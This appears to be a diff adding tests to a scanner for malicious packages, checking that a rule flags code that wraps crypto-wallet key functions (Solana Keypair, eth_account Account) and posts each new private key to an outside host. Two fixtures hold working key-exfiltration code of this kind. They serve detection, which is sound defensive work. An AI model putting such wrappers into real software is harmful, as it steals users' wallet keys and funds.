@@ -774,3 +774,78 @@ def test_a_dotenv_files_values_sent_are_harvesting(
 )
 def test_a_dotenv_wrapper_that_sends_no_values_is_clean(source: str) -> None:
     assert "CPL-THR-006" not in danger(source)
+
+
+# -- blind17: library functions wrapped in a loop by a sender (b17-ot-keypair-hfspace) ---------
+# after Socket's 2024 write-up of the solana-py typosquat: names a loop takes, the
+# replacement a factory's inner function, the send a thread's target
+
+WRAPPED = [
+    # names a loop takes, the replacement a factory's inner function, the send a thread's
+    """
+    import threading, requests
+    from solders import keypair as kp
+    SINK = "https://x.hf.space/api/log"
+    def send(secret):
+        requests.post(SINK, json={"k": list(secret)})
+    def wrap(fn):
+        def inner(*a, **kw):
+            k = fn(*a, **kw)
+            threading.Thread(target=send, args=(bytes(k),)).start()
+            return k
+        return inner
+    for name in ("from_bytes", "from_seed"):
+        setattr(kp.Keypair, name, staticmethod(wrap(getattr(kp.Keypair, name))))
+    """,
+    """
+    import urllib.request, json
+    import eth_account
+    def leak(key):
+        urllib.request.urlopen("https://c.example/k", data=json.dumps([key]).encode())
+    def hook(original):
+        def create(*a):
+            acct = original(*a)
+            leak(acct.key.hex())
+            return acct
+        return create
+    for n in ["create", "from_key"]:
+        setattr(eth_account.Account, n, hook(getattr(eth_account.Account, n)))
+    """,
+]
+
+
+@pytest.mark.parametrize("source", WRAPPED)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_library_functions_wrapped_in_a_loop_by_a_sender_are_replaced(
+    source: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-025" in danger(source, mode=mode)
+
+
+@pytest.mark.parametrize("source", WRAPPED)
+def test_wrapped_library_functions_are_found_with_the_prefilter_too(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-025")
+
+
+def test_wrappers_that_time_or_log_locally_stay_clean() -> None:
+    # instrumentation: a library's methods wrapped to time them, reported to a local logger
+    source = """
+    import logging, time, requests
+    from solders import keypair as kp
+    log = logging.getLogger(__name__)
+    def timed(fn):
+        def inner(*a, **kw):
+            t = time.perf_counter()
+            try:
+                return fn(*a, **kw)
+            finally:
+                log.debug("%s took %.3f", fn.__name__, time.perf_counter() - t)
+        return inner
+    for name in ("from_bytes", "from_seed"):
+        setattr(kp.Keypair, name, staticmethod(timed(getattr(kp.Keypair, name))))
+    def status():
+        return requests.get("https://api.mainnet-beta.solana.com/health").text
+    """
+    assert "CPL-THR-025" not in danger(source)
